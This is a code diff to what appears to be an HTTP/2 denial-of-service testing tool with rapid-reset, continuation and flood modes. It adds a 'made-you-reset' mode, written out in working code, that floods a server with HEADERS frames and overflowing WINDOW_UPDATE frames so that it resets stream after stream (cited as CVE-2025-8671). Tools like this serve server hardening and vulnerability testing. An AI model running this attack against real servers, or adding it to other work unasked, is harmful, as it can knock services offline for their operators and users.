@@ -9,6 +9,7 @@ Modes:
                  stream; answers PINGs and sends its own, empty SETTINGS, PRIORITY frames and
                  1-byte connection WINDOW_UPDATEs: traffic, but nothing that lets data flow
   rapid-reset    HEADERS then RST_STREAM(CANCEL), new stream after new stream (CVE-2023-44487)
+  made-you-reset HEADERS, then a WINDOW_UPDATE overflowing that stream: the server resets it
   continuation   HEADERS without END_HEADERS, then CONTINUATION frames without end
   ping-flood     PING after PING, never reading the answers
   settings-flood SETTINGS after SETTINGS, never reading the acknowledgements
@@ -225,6 +226,31 @@ def rapid_reset(args):
     return conn, {"connections": connections, "sent": sent, "per_second": int(sent / elapsed), "ends": summary}
 
 
+def made_you_reset(args):
+    """Streams the server has to reset for the client (CVE-2025-8671): HEADERS for PATH (large,
+    so the stream is still open), then a WINDOW_UPDATE that takes the stream's window past
+    2^31-1, which is answered with RST_STREAM(FLOW_CONTROL_ERROR); again and again. (DATA on a
+    half-closed stream or a WINDOW_UPDATE of 0 end the whole connection at once.)"""
+    conn = start(args, window=2**31 - 1)
+    encoder = hpack.Encoder()
+    block = request(encoder, args.host, args.port, args.path)
+    began = time.monotonic()
+    stream, sent = 1, 0
+    while conn.end is None and time.monotonic() - began < args.seconds:
+        batch = []
+        for _ in range(5):
+            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
+            batch.append(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))
+            stream += 2
+        if not conn.try_send(b"".join(batch)):
+            break
+        sent += 5
+        conn.read(0.01)
+        conn.answer_pings()
+    conn.read(2)
+    return conn, {"sent": sent, "resets": len(conn.resets)}
+
+
 def continuation(args):
     conn = start(args)
     # Acknowledge the server's SETTINGS now: no other frame may come inside a header block.
@@ -361,6 +387,7 @@ def main():
         "stall": lambda: stall(args),
         "rapid-reset": lambda: rapid_reset(args),
         "continuation": lambda: continuation(args),
+        "made-you-reset": lambda: made_you_reset(args),
         "ping-flood": lambda: flood(args, frame(PING, 0, 0, b"12345678")),
         "settings-flood": lambda: flood(args, settings([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)])),
         "streams": lambda: many_streams(args),
